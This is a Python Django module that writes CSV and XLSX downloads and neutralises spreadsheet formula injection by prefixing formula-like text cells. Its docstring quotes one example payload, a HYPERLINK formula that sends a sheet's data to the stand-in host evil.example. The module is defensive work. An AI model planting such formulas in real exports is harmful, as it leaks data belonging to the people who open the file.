"""The one writer of every CSV and XLSX download: cells a spreadsheet would run are defused.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a line break (or the
full-width and small forms of those signs, which spreadsheet programs also
accept) is read as a formula by Excel and LibreOffice: a case title such as
``=HYPERLINK("http://evil.example/?d="&A1,"klik")`` would send the sheet's data
away when clicked. Every text cell goes through ``safe_cell`` (CSV) or ``xlsx_row``
(XLSX), so no export can forget it.

- CSV: such text gets a leading apostrophe (the OWASP advice); spreadsheet
  programs show it as text.
- XLSX: text is always stored as text (never as a formula) and such cells get
  Excel's "quote prefix", so the text shows exactly as typed. Numbers, dates and
  Decimals stay numbers. Characters XML cannot hold (control characters) are left out.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

from django.http import StreamingHttpResponse

# Signs that make a spreadsheet cell a formula (or DDE call), in their ASCII,
# full-width (U+FF0B, U+FF0D, U+FF1D, U+FF20) and small (U+FE62, U+FE63, U+FE66,
# U+FE6B) forms, plus tab and line breaks.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff0b\uff0d\uff1d\uff20\ufe62\ufe63\ufe66\ufe6b")
# Control characters an XLSX file cannot hold (openpyxl refuses them).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would read this text as a formula (spaces before it too)."""
    return isinstance(value, str) and value.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS


def safe_cell(value):
    """A CSV cell's value: formula-like text gets a leading apostrophe; the rest as it is."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + value
    return value


def choice_labels(choices) -> dict:
    """Value -> label of a field's choices, translated once for a whole export.

    ``get_FOO_display`` per row builds a dict of lazily translated labels on every call
    (about half a millisecond a cell): an export of 50,000 rows spent a minute in it.
    """
    return {value: str(label) for value, label in choices}


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


# --- CSV -------------------------------------------------------------------------------


def _writer(out, delimiter: str = ";"):
    # Dutch Excel: semicolons, CRLF line ends.
    return csv.writer(out, delimiter=delimiter, lineterminator="\r\n")


def csv_bytes(
    *, header: Sequence, rows: Iterable[Iterable], delimiter: str = ";", bom: bool = True
) -> bytes:
    """A whole CSV file, UTF-8 with BOM so spreadsheet programs read the accents right.

    Open data (machine-read, RFC 4180): ``delimiter=","`` and ``bom=False``.
    """
    out = io.StringIO()
    writer = _writer(out, delimiter)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


class _Echo:
    """A file that hands back what is written, so csv.writer can feed a stream."""

    def write(self, value: str) -> str:
        return value


def csv_response(
    *, header: Sequence, rows: Iterable[Iterable], filename: str
) -> StreamingHttpResponse:
    """A streamed CSV download as Dutch Excel opens it: semicolons, UTF-8 with BOM."""
    writer = _writer(_Echo())

    def lines():
        yield "\ufeff" + writer.writerow(safe_row(header))
        for row in rows:
            yield writer.writerow(safe_row(row))

    response = StreamingHttpResponse(lines(), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --- XLSX ------------------------------------------------------------------------------


def xlsx_row(sheet, values: Iterable) -> list:
    """Cells for ``sheet.append``: text always as text, formula-like text quote-prefixed."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            text = _ILLEGAL_XML.sub("", value)
            cell = WriteOnlyCell(sheet)
            cell.value = text
            cell.data_type = "s"  # openpyxl would store "=..." as a formula
            if is_formula_like(text):
                cell.quotePrefix = True
        else:
            cell = WriteOnlyCell(sheet, value=value)
        cells.append(cell)
    return cells


def xlsx_append(sheet, values: Iterable) -> None:
    sheet.append(xlsx_row(sheet, values))


def xlsx_bytes(*, sheets: Iterable[tuple[str, Sequence, Iterable[Iterable]]]) -> bytes:
    """An XLSX file of (sheet title, header, rows) sheets, written as a stream."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title[:31])
        xlsx_append(sheet, header)
        for row in rows:
            xlsx_append(sheet, row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def workbook_bytes(workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
